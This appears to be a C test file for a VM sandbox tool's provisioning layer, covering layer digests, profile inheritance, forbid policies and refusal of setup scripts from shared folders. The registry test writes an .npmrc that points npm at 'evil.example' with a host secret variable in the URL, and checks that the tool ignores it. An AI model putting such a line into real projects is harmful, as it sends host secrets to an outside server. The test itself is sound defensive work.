// SPDX-License-Identifier: LGPL-2.1-or-later
// From [provision] to groups and digests: order, inheritance, what makes a layer new and what does
// not.
#include "../../driver/facade-driver.h"

#include "facade/provision-private.h"

#include <string.h>
#include <sys/stat.h>

static void
write_profile (const char *name, const char *text)
{
  g_autofree char *dir = g_build_filename (g_get_user_config_dir (), "vms", NULL);
  g_autofree char *path = g_build_filename (dir, name, NULL);
  g_autoptr (GError) error = NULL;

  g_mkdir_with_parents (dir, 0700);
  g_file_set_contents (path, text, -1, &error);
  g_assert_no_error (error);
}

/* (transfer full) "packages:npm:setup" with the digests that stand on one another. */
static char *
chain (SandboxHost *host, const char *name, const char *image, guint uid)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (SandboxProfile) profile =
      sandbox_profile_load (sandbox_host_get_profile_dirs (host), name, &error);
  g_autoptr (GPtrArray) groups = NULL;
  GString *text = g_string_new (NULL);
  g_autofree char *parent = g_strdup (image);

  g_assert_no_error (error);
  groups = _sandbox_provision_groups (host, profile, &error);
  g_assert_no_error (error);
  for (guint i = 0; i < groups->len; i++)
    {
      SandboxGroup *group = groups->pdata[i];
      char *digest =
          _sandbox_provision_digest (parent, group, _sandbox_profile_values (profile), uid, uid);

      g_assert_cmpuint (strlen (digest), ==, 32);
      g_string_append_printf (text, "%s=%s\n", group->id, digest);
      g_free (parent);
      parent = digest;
    }
  return g_string_free (text, FALSE);
}

static gboolean
same_line (const char *a, const char *b, guint line)
{
  g_auto (GStrv) left = g_strsplit (a, "\n", -1), right = g_strsplit (b, "\n", -1);

  g_assert_cmpuint (g_strv_length (left), >, line);
  g_assert_cmpuint (g_strv_length (right), >, line);
  return strcmp (left[line], right[line]) == 0;
}

/* @words NULL: there is none. */
static void
assert_problem (SandboxMachine *machine, const char *words)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (SandboxMachineStatus) status = sandbox_machine_get_status (machine, NULL, &error);

  g_assert_no_error (error);
  if (words == NULL)
    g_assert_cmpstr (status->problem, ==, "");
  else
    g_assert_nonnull (strstr (status->problem, words));
}

#define BASE "[profile]\ninherits=base\n[provision]\n"

static void
test_digest (void)
{
  g_autoptr (SandboxHost) host = driver_test_open (TEST_URI, NULL);
  g_autofree char *first = NULL, *again = NULL, *other = NULL, *npm = NULL, *user = NULL,
                  *image = NULL, *packages = NULL;

  write_profile ("s.sh", "echo one\n");
  write_profile ("a.profile", BASE "packages=jq\nnpm=left-pad\nsetup=s.sh\n");
  first = chain (host, "a", "image", 1000);
  g_assert_true (g_str_has_prefix (first, "packages="));
  again = chain (host, "a", "image", 1000);
  g_assert_cmpstr (first, ==, again);
  /* a script's content counts, and what stands before it stays */
  write_profile ("s.sh", "echo two\n");
  other = chain (host, "a", "image", 1000);
  g_assert_true (same_line (first, other, 0));
  g_assert_true (same_line (first, other, 1));
  g_assert_false (same_line (first, other, 2));
  write_profile ("a.profile", BASE "packages=jq\nnpm=right-pad\nsetup=s.sh\n");
  npm = chain (host, "a", "image", 1000);
  g_assert_true (same_line (npm, other, 0));
  g_assert_false (same_line (npm, other, 1));
  g_assert_false (same_line (npm, other, 2));
  write_profile ("a.profile", BASE "packages=jq;git\nnpm=right-pad\nsetup=s.sh\n");
  packages = chain (host, "a", "image", 1000);
  g_assert_false (same_line (npm, packages, 0));
  g_assert_false (same_line (npm, packages, 1));
  user = chain (host, "a", "image", 1001);
  g_assert_false (same_line (user, packages, 0));
  image = chain (host, "a", "other", 1000);
  g_assert_false (same_line (image, packages, 0));
}

static void
test_inherits (void)
{
  g_autoptr (SandboxHost) host = driver_test_open (TEST_URI, NULL);
  g_autofree char *sum = NULL, *whole = NULL, *none = NULL;

  write_profile ("parent.profile", BASE "packages=jq\nenv=A=b\n");
  write_profile ("child.profile", "[profile]\ninherits=parent\n[provision]\npackages=+git\n");
  write_profile ("whole.profile", BASE "packages=jq;git\nenv=A=b\n");
  write_profile ("none.profile", "[profile]\ninherits=parent\n[provision]\npackages=\nenv=\n");
  sum = chain (host, "child", "image", 1000);
  whole = chain (host, "whole", "image", 1000);
  none = chain (host, "none", "image", 1000);
  g_assert_cmpstr (sum, ==, whole);
  g_assert_cmpstr (none, ==, "");
}

/* Pieces bring packages, and npm= brings what it needs. */
static void
test_pieces (void)
{
  g_autoptr (SandboxHost) host = driver_test_open (TEST_URI, NULL);
  g_autofree char *agent = chain (host, "agent", "image", 1000), *npm = NULL, *same = NULL;

  g_assert_nonnull (strstr (agent, "packages="));
  g_assert_nonnull (strstr (agent, "\nnpm="));
  g_assert_nonnull (strstr (agent, "\nsetup="));
  write_profile ("npm.profile", BASE "npm=left-pad\n");
  write_profile ("same.profile", BASE "use=node\nnpm=left-pad\n");
  npm = chain (host, "npm", "image", 1000);
  same = chain (host, "same", "image", 1000);
  g_assert_true (g_str_has_prefix (npm, "packages="));
  g_assert_cmpstr (npm, ==, same);
}

static void
fails (SandboxHost *host, const char *provision, const char *words)
{
  g_autofree char *text = g_strconcat (BASE, provision, NULL);
  g_autoptr (GError) error = NULL;
  g_autoptr (SandboxProfile) profile = NULL;

  write_profile ("bad.profile", text);
  profile = sandbox_profile_load (sandbox_host_get_profile_dirs (host), "bad", &error);
  g_assert_no_error (error);
  g_assert_null (_sandbox_provision_groups (host, profile, &error));
  g_assert_error (error, SANDBOX_ERROR, SANDBOX_ERROR_INVALID);
  g_test_message ("%s", error->message);
  g_assert_nonnull (strstr (error->message, words));
  g_assert_nonnull (strstr (error->message, "/bad.profile:"));
  /* without any host it is the same */
  g_clear_error (&error);
  g_assert_false (
      sandbox_profile_check_provision (sandbox_host_get_profile_dirs (host), profile, &error));
  g_assert_error (error, SANDBOX_ERROR, SANDBOX_ERROR_INVALID);
  g_assert_nonnull (strstr (error->message, words));
}

static void
write_at_home (const char *path, const char *text)
{
  g_autofree char *file = g_build_filename (g_get_home_dir (), path, NULL);
  g_autofree char *dir = g_path_get_dirname (file);
  g_autoptr (GError) error = NULL;

  g_assert_cmpint (g_mkdir_with_parents (dir, 0700), ==, 0);
  g_file_set_contents (file, text, -1, &error);
  g_assert_no_error (error);
}

static void
test_errors (void)
{
  g_autoptr (SandboxHost) host = driver_test_open (TEST_URI, NULL);

  fails (host, "use=noed\n", "bad.profile:4: [provision] use: there is no piece \"noed\"");
  fails (host, "use=noed\n", "did you mean \"node\"");
  fails (host, "setup=gone.sh\n", "bad.profile:4: [provision] setup: there is no file ");
  fails (host, "files=gone:/etc/x\n", "bad.profile:4: [provision] files: there is no file ");
  fails (host, "setup=~/gone/x.sh\n", "take \"~/gone/x.sh\" out of setup=");
}

/* Whatever stands in a file's place is a mistake in the profile, and nothing waits for it. */
static void
test_no_files (void)
{
  g_autoptr (SandboxHost) host = driver_test_open (TEST_URI, NULL);
  g_autofree char *fifo = g_build_filename (g_get_home_dir (), "fifo", NULL);
  g_autofree char *link = g_build_filename (g_get_home_dir (), "link", NULL);
  g_autofree char *closed = g_build_filename (g_get_home_dir (), "closed", NULL);

  write_at_home ("dir/x", "");
  write_at_home ("closed", "");
  g_assert_cmpint (mkfifo (fifo, 0600), ==, 0);
  g_assert_cmpint (symlink ("/proc/1", link), ==, 0);
  g_assert_cmpint (g_chmod (closed, 0), ==, 0);
  fails (host, "setup=~/dir\n", "bad.profile:4: [provision] setup: reading ");
  fails (host, "setup=~/fifo\n", "bad.profile:4: [provision] setup: reading ");
  fails (host, "files=~/fifo:/etc/x\n", "bad.profile:4: [provision] files: reading ");
  fails (host, "setup=~/link\n", "bad.profile:4: [provision] setup: reading ");
  if (geteuid () != 0)
    fails (host, "setup=~/closed\n", "bad.profile:4: [provision] setup: reading ");
}

/* What a machine, or whoever works in the shared directory, could have written does not get into
 * new ones: whatever the share's mode, directly, by a link, and beneath it. */
static void
test_shared (void)
{
  static const char *const modes[] = { "", "mode=rw\n", "mode=ro\n", "mode=guarded\n" };
  static const char *const items[] = { "setup=~/proj/s.sh\n", "setup=~/proj/sub/s.sh,as=user\n",
                                       "files=~/proj/s.sh:~/s\n", "setup=way.sh\n",
                                       "setup=~/by/s.sh\n" };
  g_autoptr (SandboxHost) host = driver_test_open (TEST_URI, NULL);
  g_autofree char *by = g_build_filename (g_get_home_dir (), "by", NULL), *beside = NULL;
  g_autofree char *target = g_build_filename (g_get_home_dir (), "proj/s.sh", NULL);
  g_autofree char *way = g_build_filename (g_get_user_config_dir (), "vms/way.sh", NULL);

  write_at_home ("proj/s.sh", "");
  write_at_home ("proj/sub/s.sh", "");
  write_at_home ("proj-2/s.sh", "");
  write_at_home ("vms/work/s.sh", "");
  g_assert_cmpint (symlink ("proj", by), ==, 0);
  g_assert_cmpint (symlink (target, way), ==, 0);
  for (gsize i = 0; i < G_N_ELEMENTS (modes); i++)
    for (gsize k = 0; k < G_N_ELEMENTS (items); k++)
      {
        g_autofree char *text =
            g_strconcat (items[k], "[share:p]\nsource=~/proj\n", modes[i], NULL);

        fails (host, text, "bad.profile:4: [provision] ");
        fails (host, text, "/proj, which [share:p] of this profile shares");
      }
  fails (host, "setup=~/by/s.sh\n[share:p]\nsource=~/by\n", "which [share:p] of this");
  fails (host, "setup=~/vms/work/s.sh\n", "/vms, which a machine shares");
  write_profile ("a.profile", BASE "setup=~/proj-2/s.sh\n[share:p]\nsource=~/proj\n");
  beside = chain (host, "a", "image", 1000);
  g_assert_true (g_str_has_prefix (beside, "setup="));
}

/* Another machine's share counts when one is made, whether that machine is there or its profile
 * only; and a start that would make a disk makes nothing. */
static void
test_shared_elsewhere (void)
{
  g_autoptr (SandboxHost) host = driver_test_open (TEST_URI, NULL);
  g_autofree char *directory = g_build_filename (g_get_home_dir (), "others", NULL);
  g_autofree char *spec = g_strconcat (directory, ",mode=rw", NULL);
  const char *shares[] = { spec, NULL };
  SandboxStartOptions options = SANDBOX_START_OPTIONS_INIT;
  g_autoptr (GError) error = NULL;
  g_autoptr (SandboxMachine) machine = NULL, other = NULL;
  g_autoptr (SandboxPlan) plan = NULL, refused = NULL;
  g_autofree char *text = NULL;

  write_at_home ("others/s.sh", "");
  write_profile ("mine.profile", BASE "packages=jq;git\nsetup=~/others/s.sh\n");
  machine = driver_test_lookup (host, "mine");
  plan = sandbox_machine_plan (machine, &options, NULL, NULL, &error);
  g_assert_no_error (error);
  text = sandbox_plan_describe (plan);
  g_assert_nonnull (strstr (text, "to be installed first: packages: jq git; setup: files"));
  other = sandbox_host_create (host, "other", "ci", shares, NULL, &error);
  g_assert_no_error (error);
  refused = sandbox_machine_plan (machine, &options, NULL, NULL, &error);
  g_assert_null (refused);
  g_assert_error (error, SANDBOX_ERROR, SANDBOX_ERROR_INVALID);
  g_assert_nonnull (
      strstr (error->message, "/others, which [share:others] of profile other shares"));
  g_clear_error (&error);
  driver_test_start (other);
  write_profile ("other.profile", "[profile]\ninherits=ci\n");
  refused = sandbox_machine_plan (machine, &options, NULL, NULL, &error);
  g_assert_null (refused);
  g_assert_nonnull (strstr (error->message, "/others, which a machine shares"));
  g_clear_error (&error);
  g_assert_false (sandbox_machine_start (machine, NULL, NULL, NULL, NULL, &error));
  g_assert_error (error, SANDBOX_ERROR, SANDBOX_ERROR_INVALID);
  driver_test_assert_nothing (machine);
  assert_problem (machine, "/others, which a machine shares");
  driver_test_destroy (other, TRUE);
  assert_problem (machine, NULL);
  /* one that has its disk starts whatever became of the script */
  driver_test_start (machine);
  g_assert_true (sandbox_machine_stop (machine, TRUE, 0, NULL, NULL, NULL, NULL));
  write_profile ("mine.profile", BASE "setup=gone.sh\n");
  assert_problem (machine, NULL);
  driver_test_start (machine);
  driver_test_destroy (machine, FALSE);
  assert_problem (machine, "there is no file");
  driver_test_destroy (machine, TRUE);
}

/* A throwaway machine's profile has gone with it when somebody reads its name. */
static void
test_subject (void)
{
  g_autoptr (SandboxHost) host = driver_test_open (TEST_URI, NULL);
  const SandboxProfileDirs *dirs = sandbox_host_get_profile_dirs (host);
  static const struct
  {
    const char *name, *subject;
  } cases[] = { { "run-0123abcd", "ci" }, { "run-tests", "run-tests" }, { "mine", "mine" } };
  g_autoptr (SandboxProfile) kept = NULL;
  g_autoptr (GError) error = NULL;

  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr (SandboxProfile) profile = sandbox_profile_parse (
          dirs, cases[i].name, "text", "[profile]\ninherits=ci\n", -1, &error);

      g_assert_no_error (error);
      g_assert_cmpstr (_sandbox_provision_subject (dirs, profile), ==, cases[i].subject);
    }
  write_profile ("run-0123abcd.profile", "[profile]\ninherits=ci\n");
  kept = sandbox_profile_load (dirs, "run-0123abcd", &error);
  g_assert_no_error (error);
  g_assert_cmpstr (_sandbox_provision_subject (dirs, kept), ==, "run-0123abcd");
  g_assert_true (sandbox_profile_remove (dirs, "run-0123abcd", &error));
}

/* The error names the profile, the thing and the pattern. */
static void
test_forbidden (void)
{
  static const struct
  {
    const char *forbid, *provision, *words;
  } cases[] = {
    { "node", "use=claude-code\n", "forbids the piece node (\"node\"" },
    { "nodejs*", "npm=left-pad\n", "forbids the package nodejs (\"nodejs*\"" },
    { "docker*", "use=docker\n", "forbids the piece docker (\"docker*\"" },
    { "docker.io", "packages=jq;docker.io=26.1\n", "forbids the package docker.io" },
    { "docker-cli", "packages=jq;docker-cli?\n", "forbids the package docker-cli " },
    { "@openai/*", "npm=@openai/codex@1.2\n", "forbids the npm package @openai/codex (" },
    { "left-*", "npm=left-pad@^2\n", "forbids the npm package left-pad (" },
    /* commands that come with a piece under another name */
    { "npm", "npm=left-pad\n", "forbids the command npm (" },
    { "npm", "use=node\n", "forbids the command npm (" },
    { "claude", "use=claude-code\n", "forbids the command claude (" },
  };
  g_autoptr (SandboxHost) host = driver_test_open (TEST_URI, NULL);
  g_autofree char *free_of_it = NULL, *with = NULL;

  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *text =
          g_strconcat (cases[i].provision, "[policy]\nforbid=", cases[i].forbid, "\n", NULL);

      fails (host, text, cases[i].words);
      fails (host, text, "bad.profile:6: [policy] forbid: provisioning bad: its profile");
    }
  /* what fits nothing is no hindrance, but another layer */
  write_profile ("a.profile", BASE "packages=jq\n");
  free_of_it = chain (host, "a", "image", 1000);
  write_profile ("a.profile", BASE "packages=jq\n[policy]\nforbid=docker*;npm\n");
  with = chain (host, "a", "image", 1000);
  g_assert_cmpstr (free_of_it, !=, with);
}

/* (transfer full) What a machine's disk says of the first step. */
static char *
marker (SandboxHost *host, const char *name)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (SandboxProfile) profile =
      sandbox_profile_load (sandbox_host_get_profile_dirs (host), name, &error);
  SandboxLayering layering = { .host = host, .profile = profile };
  g_autoptr (GPtrArray) groups = NULL;

  g_assert_no_error (error);
  groups = _sandbox_provision_groups (host, profile, &error);
  g_assert_no_error (error);
  return _sandbox_group_marker (&layering, groups->pdata[0]);
}

/* In a machine that keeps its disk, a step is done again for what it installs, not for what is
 * forbidden. */
static void
test_marker (void)
{
  g_autoptr (SandboxHost) host = driver_test_open (TEST_URI, NULL);
  g_autofree char *first = NULL, *forbidding = NULL, *other = NULL;

  write_profile ("a.profile", BASE "packages=jq\n");
  first = marker (host, "a");
  write_profile ("a.profile", BASE "packages=jq\n[policy]\nforbid=docker*;npm\n");
  forbidding = marker (host, "a");
  g_assert_cmpstr (first, ==, forbidding);
  write_profile ("a.profile", BASE "packages=jq;git\n");
  other = marker (host, "a");
  g_assert_cmpstr (first, !=, other);
}

/* A project says where its packages come from, and may ask for a variable of the host's with it:
 * whoever happens to be in it makes the layers of all machines, and is not asked. */
static void
test_registry (void)
{
  g_autofree char *npm = g_find_program_in_path ("npm"), *here = g_get_current_dir ();
  g_autofree char *before = NULL, *within = NULL, *users = NULL, *rc = NULL;
  g_autofree char *project = g_build_filename (g_get_home_dir (), "project", NULL);
  g_autofree char *project_rc = g_build_filename (project, ".npmrc", NULL);
  g_autofree char *package = g_build_filename (project, "package.json", NULL);
  g_autoptr (GError) error = NULL;

  if (npm == NULL)
    {
      g_test_skip ("npm is not installed here");
      return;
    }
  before = _sandbox_provision_registry (NULL);
  g_assert_cmpint (g_mkdir (project, 0700), ==, 0);
  g_setenv ("FAKE_SECRET", "a-secret", TRUE);
  g_file_set_contents (package, "{}", -1, &error);
  g_assert_no_error (error);
  g_file_set_contents (project_rc, "registry=https://evil.example/${FAKE_SECRET}/\n", -1, &error);
  g_assert_no_error (error);
  g_assert_cmpint (g_chdir (project), ==, 0);
  within = _sandbox_provision_registry (NULL);
  g_assert_cmpstr (within, ==, before);
  /* the user's own counts, but no variable of the host's goes with it */
  rc = g_build_filename (g_get_home_dir (), ".npmrc", NULL);
  g_file_set_contents (rc, "registry=https://own.example/npm/\n", -1, &error);
  g_assert_no_error (error);
  users = _sandbox_provision_registry (NULL);
  g_assert_cmpstr (users, ==, "https://own.example/npm/");
  g_clear_pointer (&users, g_free);
  g_file_set_contents (rc, "registry=https://own.example/${FAKE_SECRET}/\n", -1, &error);
  g_assert_no_error (error);
  users = _sandbox_provision_registry (NULL);
  g_assert_null (users);
  g_assert_cmpint (g_chdir (here), ==, 0);
}

int
main (int argc, char **argv)
{
  g_autofree char *home = driver_test_home ();
  int result;

  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/provision/digest", test_digest);
  g_test_add_func ("/provision/inherits", test_inherits);
  g_test_add_func ("/provision/pieces", test_pieces);
  g_test_add_func ("/provision/errors", test_errors);
  g_test_add_func ("/provision/no-files", test_no_files);
  g_test_add_func ("/provision/subject", test_subject);
  g_test_add_func ("/provision/shared", test_shared);
  g_test_add_func ("/provision/shared-elsewhere", test_shared_elsewhere);
  g_test_add_func ("/provision/forbidden", test_forbidden);
  g_test_add_func ("/provision/marker", test_marker);
  g_test_add_func ("/provision/registry", test_registry);
  result = g_test_run ();
  driver_test_remove_home (home);
  return result;
}
